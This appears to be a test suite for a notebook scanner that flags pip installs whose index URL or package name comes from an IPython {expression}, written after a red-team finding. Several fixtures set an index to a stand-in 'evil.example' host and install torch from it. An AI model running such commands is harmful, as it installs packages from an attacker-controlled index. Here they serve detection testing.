/**
 * Red team 27b R27b-4: IPython expands `{expr}` in a `!` line and in a line magic's
 * arguments before the shell runs them, so `url = 'http://evil...'` then `%pip install -i
 * {url} torch` installs from that index. The static scan reads such a field as it reads
 * `$url`: unreadable where it may decide an install, passed over where it cannot.
 */
import { installProblems } from '../testing/install-problems';
import { expandIPython } from './ipythonexpansion';
import { scanCellInstalls } from './scan';

const EVIL = 'http://evil.example/simple';
const POLICY = { schema_version: 1, revision: 1 };
const scan = (cell: string) =>
  scanCellInstalls('/nonexistent-warden-dir/x.ipynb', cell, POLICY);
const rules = (cell: string) => scan(cell).map(l => l.finding.ruleId);
const FIELD = /it uses an IPython \{expression\} Warden cannot resolve/;

describe('an IPython {expr} in an install is decided as $name is', () => {
  it.each([
    [`url = '${EVIL}'\n%pip install -i {url} torch`],
    [`url = '${EVIL}'\n!pip install --index-url {url} torch`],
    ['!pip install --extra-index-url={url} x'],
    ['!uv pip install --index-url {cfg["idx"]} x'],
    ["!pip install -i '{url}' torch"], // IPython pays no heed to the shell's quotes
    ['x = !pip install -i {url} torch'],
    ['%sx pip install -i {url} torch'],
    ['pip install -i {url} torch'], // automagic %pip
    ['%%system\npip install -i {url} torch\n'],
    ['!PIP_INDEX_URL={url} pip install torch'],
    ['!pip install -r {req}']
  ])('reports %j as install-unreadable, as with $url', cell => {
    const found = scan(cell);
    expect(found.map(l => l.finding.ruleId)).toEqual(['install-unreadable']);
    expect(found[0].finding.severity).toBe(
      scan(cell.replace(/\{[^{}]*\}/, '$x'))[0].finding.severity
    );
    expect(found[0].finding.message).toMatch(/IPython \{expression\}/);
  });

  it('words the problem as the $ reading does, naming the IPython expression', () => {
    const line = expandIPython('pip install -i {url} torch', 1).text;
    expect(installProblems(line)).toEqual([expect.stringMatching(FIELD)]);
    expect(installProblems('pip install -i $url torch')).toEqual([
      expect.stringMatching(/a shell expansion \(a \$ parameter\)/)
    ]);
  });

  it('judges {pkg} as $pkg: the static scan knows no Python values', () => {
    // `pkg = 'torch'` is not taken as pkg's value: the analyzer's string scope is not
    // flow-sensitive (`pkg += ...`, an `if` branch), so neither $pkg nor {pkg} uses it
    const known = "pkg = 'torch'\n";
    expect(rules(`${known}%pip install {pkg}`)).toEqual(
      rules(`${known}%pip install $pkg`)
    );
    expect(rules(`${known}%pip install {pkg}`)).toEqual(['install-unreadable']);
    expect(rules('!pip install torch=={ver}')).toEqual(
      rules('!pip install torch==$ver')
    );
    expect(rules('!pip install torch=={ver}')).toEqual(['install-unreadable']);
  });

  it('places the finding on the line that holds the field', () => {
    const [found] = scan(`url = '${EVIL}'\n!pip install -i {url} torch`);
    expect(found.finding.line).toBe(2);
    expect(found.finding.column).toBe(2);
    expect(found.finding.endLine).toBe(2);
  });
});

describe('{{ and }} are braces, once per expansion', () => {
  it('a `!` line (one expansion) hands {url} to the shell as text', () => {
    expect(expandIPython('pip install -i {{url}} torch', 1).text).toBe(
      'pip install -i {url} torch'
    );
    expect(rules('!pip install -i {{url}} torch')).toEqual([]);
    expect(rules("!echo '{{literal}}' && pip install torch")).toEqual([]);
  });

  it("a line magic's arguments are expanded twice: %pip's {{url}} is url's value", () => {
    expect(rules('%pip install -i {{url}} torch')).toEqual([
      'install-unreadable'
    ]);
    expect(rules('%pip install -i {{{{url}}}} torch')).toEqual([]);
  });
});

describe('braces where they do not decide an install', () => {
  it.each([
    ['!echo {x}'],
    ['!echo {x} && pip install torch'],
    ['!ls {data_dir}'],
    ["!awk '{print $1}' f.txt"],
    ["!pip list | awk '{print $1}'"],
    ['!pip install torch # {note}'],
    ['!pip install torch\n!echo {a,b}'],
    ['%%bash\npip install -i {url} torch\n'], // a script body is read as written
    ['!{sys.executable} -m pip install torch'],
    // an empty field fails IPython's format, which then leaves the whole line as written
    ['!find . -exec echo {} \\; && pip install -i {url} torch'],
    ['x = {"a": 1}\nprint(x)']
  ])('%j has no finding', cell => {
    expect(rules(cell)).toEqual([]);
  });
});

describe('expandIPython', () => {
  it('keeps program words, ${...} and lines IPython cannot format', () => {
    const kept = (text: string) => expandIPython(text, 2).text;
    expect(kept('{sys.executable} -m pip install x')).toBe(
      '{sys.executable} -m pip install x'
    );
    expect(kept('echo ${HOME}')).toBe('echo ${HOME}');
    expect(kept('echo {} {x}')).toBe('echo {} {x}');
    expect(kept('echo } {x}')).toBe('echo } {x}');
    expect(kept('echo {x')).toBe('echo {x');
  });

  it("closes a single quote around a field, and maps offsets back to the line's", () => {
    const line = expandIPython("pip install -i '{url}' torch", 1);
    expect(line.text).toMatch(
      /^pip install -i ''"\$\{WARDEN_IPYTHON_EXPRESSION\}"'' torch$/
    );
    expect(line.origin(line.text.indexOf('torch'))).toBe(23);
    expect(line.origin(line.text.length)).toBe(28);
  });

  it('names a parameter the line itself does not hold', () => {
    const text =
      'WARDEN_IPYTHON_EXPRESSION=https://pypi.org/simple pip install -i {u} x';
    expect(expandIPython(text, 1).text).toContain(
      '${WARDEN_IPYTHON_EXPRESSION_}'
    );
  });
});
